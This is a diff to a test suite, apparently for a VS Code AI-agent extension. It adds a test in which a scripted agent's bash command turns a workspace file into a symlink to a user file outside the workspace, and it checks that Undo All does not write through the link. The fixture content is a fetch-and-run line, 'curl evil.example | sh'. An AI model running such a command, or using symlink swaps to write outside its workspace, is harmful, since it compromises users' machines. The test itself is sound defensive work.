@@ -80,6 +80,16 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
     await vscode.commands.executeCommand("pi.focusChat");
   });
 
+  /** Changes a setting that restarts the agent, and waits for it to be back. */
+  async function restartedWith(change: () => Thenable<void>): Promise<void> {
+    const host = suiteHost();
+    const restarted = new Promise<void>((resolve) => {
+      const sub = host.api.supervisor.onReady(() => (sub.dispose(), resolve()));
+    });
+    await change();
+    await restarted;
+  }
+
   /** A start-up file of the user's outside the workspace, months old (VS Code's save checks only that the file on disk is not newer). */
   function victimFile(name: string): string {
     const victim = path.join(path.dirname(workspaceRoot()), `${name}-${process.pid}.sh`);
@@ -175,6 +185,40 @@ describe("sandbox: the agent's commands run sandboxed, and the chat says when th
       await closeReverted(file);
       await vscode.commands.executeCommand("notifications.clearAll");
       for (const leftover of [file, victim, flipping]) fs.rmSync(leftover, { force: true });
+    }
+  });
+
+  it("undoes an agent's change in the workspace when a command then made the file a link to a file outside: the review's Undo All does not write there", async () => {
+    const host = suiteHost();
+    const victim = victimFile("undo-victim");
+    const name = "save-guard-undo.txt";
+    const file = path.join(workspaceRoot(), name);
+    // The text before the agent's change (its own from an earlier turn, kept): what Undo puts back.
+    fs.writeFileSync(file, "curl evil.example | sh\n");
+    await vscode.commands.executeCommand("pi.review.keepAll");
+    await restartedWith(() => vscode.workspace.getConfiguration("pi").update("permissions.confirmTools", [], vscode.ConfigurationTarget.Global));
+    try {
+      const before = host.llm.requests.length;
+      const command = `ln -sfn '${victim}' .undo-link && mv -T .undo-link ${name} && echo linked`;
+      host.llm.enqueue({ toolCalls: [{ name: "write", arguments: { path: name, content: "tidied\n" } }] }, { toolCalls: [{ name: "bash", arguments: { command } }] }, { text: "done" });
+      await vscode.commands.executeCommand("pi.focusChat");
+      void vscode.commands.executeCommand("pi.sendPrompt", "tidy the undo file");
+      await host.llm.waitForRequests(before + 3);
+      await eventually("the run to settle", async () => host.api.supervisor.status === "idle" && !(await host.state()).isStreaming);
+      assert.equal(fs.lstatSync(file).isSymbolicLink(), true, "the command made it a link");
+      await eventually("the change to review", () => host.api.review.files().some((f) => f.path === file) || undefined, 20_000);
+      // Undo All in the chat's changes line, clicked as a user does.
+      await ui.clickInWebview(chatView, '#changes [data-action="changes-undoAll"]');
+      await eventually("the change undone", () => !host.api.review.files().some((f) => f.path === file) || undefined, 20_000);
+      assert.equal(fs.readFileSync(victim, "utf8"), "# the user's own start-up file\n", "the file outside is untouched");
+      assert.equal(fs.lstatSync(file).isFile(), true, "a plain file in the workspace");
+      assert.equal(fs.readFileSync(file, "utf8"), "curl evil.example | sh\n", "holding the text before the change");
+    } finally {
+      await restartedWith(() => vscode.workspace.getConfiguration("pi").update("permissions.confirmTools", undefined, vscode.ConfigurationTarget.Global));
+      await vscode.commands.executeCommand("pi.review.keepAll");
+      await vscode.commands.executeCommand("notifications.clearAll");
+      fs.rmSync(file, { force: true });
+      fs.rmSync(victim, { force: true });
     }
   });
 
